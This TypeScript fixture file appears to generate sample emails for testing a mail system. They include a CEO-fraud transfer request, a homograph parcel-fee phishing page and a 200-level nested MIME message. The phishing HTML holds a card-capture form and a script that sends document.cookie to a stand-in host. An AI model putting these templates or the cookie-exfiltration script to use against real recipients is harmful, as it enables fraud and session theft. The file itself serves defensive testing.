/** Mails that are not what they seem, or not to be read at all. */
import { heading } from '../envelope.ts'
import type { Said } from '../exchange.ts'
import { filePart, multipart, source, textPart, type Part } from '../mime.ts'
import { pdf } from '../../../simulator/customer/pdf.ts'

/** As if by somebody who works here, from a domain with one letter changed, with an address for answers that is neither. */
export function fromAColleague({ at }: Said): Buffer {
  const from = { name: 'Tobias Hansen', address: 'tobias@nordllcht.example' }
  const text =
    'Hallo,\n\nich sitze gerade in einer Besprechung und kann nicht telefonieren. Überweisen Sie bitte noch heute 4.870 Euro an unseren neuen Spediteur, die Daten schicke ich Ihnen gleich.\n\nAntworten Sie nur auf diese Mail.\n\nTobias Hansen\n'
  return source(
    heading({ from, subject: 'Dringend: Überweisung', at, authentic: false }, [
      ['Reply-To', '"Tobias Hansen" <t.hansen.privat@freemail.example>'],
    ]),
    textPart(text),
  )
}

/** A parcel that nobody has sent: the name shown is an address, and the real one mixes alphabets. */
export function parcelFee({ at }: Said): Buffer {
  // The first letter of the domain is Cyrillic.
  const from = { name: 'service@paketdienst.example', address: 'service@раketdienst.example' }
  const page = `<html><body style="font-family:Arial,sans-serif"><div style="background-color:#ffcc00;padding:16px"><img src="https://раketdienst.example/logo.png" width="180" height="48" alt="Paketdienst"></div>
<p style="font-size:18px"><b>Ihr Paket konnte nicht zugestellt werden.</b></p>
<p>Bitte zahlen Sie <b>1,99&nbsp;€</b> Zollgebühr, sonst geht die Sendung zurück.</p>
<p><a href="https://раketdienst.example/bezahlen" style="background-color:#cc0000;color:#ffffff;padding:10px 24px">Jetzt bezahlen</a></p>
<form action="https://раketdienst.example/karte"><input name="karte" placeholder="Kartennummer"><input name="cvc" placeholder="CVC"></form>
<script>document.location = 'https://раketdienst.example/' + document.cookie</script>
</body></html>
`
  return source(
    heading({ from, subject: 'Ihr Paket 00340434… wartet', at, authentic: false }),
    textPart(page, 'html'),
  )
}

/** Wrapped more often than anybody reads on: it is kept, and offered as it came. */
const DEPTH = 200

export function unreadable({ at }: Said): Buffer {
  const from = { name: 'K. Behrendt', address: 'k.behrendt@altsystem.example' }
  let inner: Part = textPart('Anbei die Liste.')
  for (let depth = 0; depth < DEPTH; depth++) inner = multipart('mixed', [inner])
  return source(heading({ from, subject: 'Lagerliste Oktober', at }), inner)
}

/** The scanner in the office, which has no address. */
export function scanned({ at }: Said): Buffer {
  const named = heading({ from: { name: null, address: 'scanner@nordlicht.example' }, subject: 'Scan', at })
  const lines = ['Spedition Hinrichs', 'Lieferschein 88-2041', '3 Kartons, 1 Palette', 'ohne Beanstandung']
  const scan = { name: 'scan_0417.pdf', type: 'application/pdf', bytes: pdf(lines) }
  return source(
    named.filter(([name]) => name !== 'From' && name !== 'Return-Path' && name !== 'Authentication-Results'),
    multipart('mixed', [textPart('\n'), filePart(scan)]),
  )
}

/** The payment service tells what it does. */
export function payout({ at }: Said): Buffer {
  const from = { name: 'Zahlwerk', address: 'noreply@zahlwerk.example' }
  const text =
    'Auszahlung 2041-0993\n\nWir haben 12.408,55 EUR auf Ihr Konto DE•• •••• 4711 überwiesen. Die Abrechnung liegt in Ihrem Kundenbereich.\n\nDiese Nachricht wurde automatisch erzeugt.\n'
  return source(
    heading({ from, subject: 'Ihre Auszahlung ist unterwegs', at }, [['Auto-Submitted', 'auto-generated']]),
    textPart(text),
  )
}
